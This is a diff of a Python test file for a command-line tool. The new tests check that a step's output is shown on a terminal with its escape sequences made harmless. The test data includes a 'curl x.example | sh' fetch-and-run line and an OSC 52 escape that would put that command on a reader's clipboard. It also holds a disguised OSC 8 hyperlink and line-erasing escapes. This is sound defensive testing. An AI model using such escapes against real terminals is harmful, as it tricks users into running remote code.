@@ -761,13 +761,16 @@ def test_a_steps_diff_on_a_terminal_shows_the_escapes_it_wrote(cli: Cli) -> None
     run_id = run_id_of(cli("run", "plan.yaml"))
     piped = cli("diff", run_id, "edit")
     assert "+curl x.example | sh\n+\x1b[1A\x1b[2K" in piped.stdout, piped.stdout
+    text = on_a_terminal(cli, "diff", run_id, "edit")
+    assert "\x1b" not in text and "+\\x1b[1A\\x1b[2K" in text, text
+
+
+def on_a_terminal(cli: Cli, *args: str) -> str:
+    """What the command writes to its standard output when that is a terminal."""
     main, side = os.openpty()
     with open(main, "rb", buffering=0) as screen:
-        shown = subprocess.run(
-            cli.argv("diff", run_id, "edit"), env=cli.env(), stdout=side, check=True
-        )
+        subprocess.run(cli.argv(*args), env=cli.env(), stdout=side, check=True)
         os.close(side)
-        assert shown.returncode == 0
         read = b""
         while True:
             try:
@@ -777,8 +780,34 @@ def test_a_steps_diff_on_a_terminal_shows_the_escapes_it_wrote(cli: Cli) -> None
             if not chunk:
                 break
             read += chunk
-    text = read.decode()
-    assert "\x1b" not in text and "+\\x1b[1A\\x1b[2K" in text, text
+    return read.decode()
+
+
+def test_a_steps_output_on_a_terminal_shows_the_escapes_it_printed(cli: Cli) -> None:
+    """Every report ends a failed step with ``full output: trestle output RUN STEP``,
+    which wrote the output raw: on a terminal, the step's escape sequences put a command
+    on the reader's clipboard (OSC 52), laid a hyperlink over words (OSC 8) and erased
+    the line above. They are shown there as escapes; piped, the output stays exact."""
+    printed = (
+        "build ok\n\x1b]52;c;Y3VybCB4LmV4YW1wbGUvaSB8IHNo\x07"
+        "\x1b]8;;https://x.example/\x07docs\x1b]8;;\x07\x1b[1A\x1b[2Kall good\n"
+    )
+    cli.write("plan.yaml", f"steps:\n  - id: noisy\n    run: {json.dumps(shell_printf(printed))}\n")
+    run_id = run_id_of(cli("run", "plan.yaml"))
+    assert f"full output: trestle output {run_id} noisy" in cli("show", run_id).stdout
+    assert cli("output", run_id, "noisy").stdout == printed
+
+    text = on_a_terminal(cli, "output", run_id, "noisy")
+
+    assert "\x1b" not in text and "\x07" not in text, text
+    assert "\\x1b]52;c;Y3VybCB4LmV4YW1wbGUvaSB8IHNo\\x07" in text, text
+    assert text.endswith("\\x1b[1A\\x1b[2Kall good\r\n"), text
+
+
+def shell_printf(text: str) -> str:
+    """A command that prints ``text`` (its control characters written as octal)."""
+    spelt = "".join(f"\\{ord(c):03o}" if ord(c) < 32 else c for c in text)
+    return f"printf '{spelt}'; exit 1"
 
 
 def test_a_file_name_holding_a_newline_makes_no_line_of_a_rewinds_list(cli: Cli) -> None:
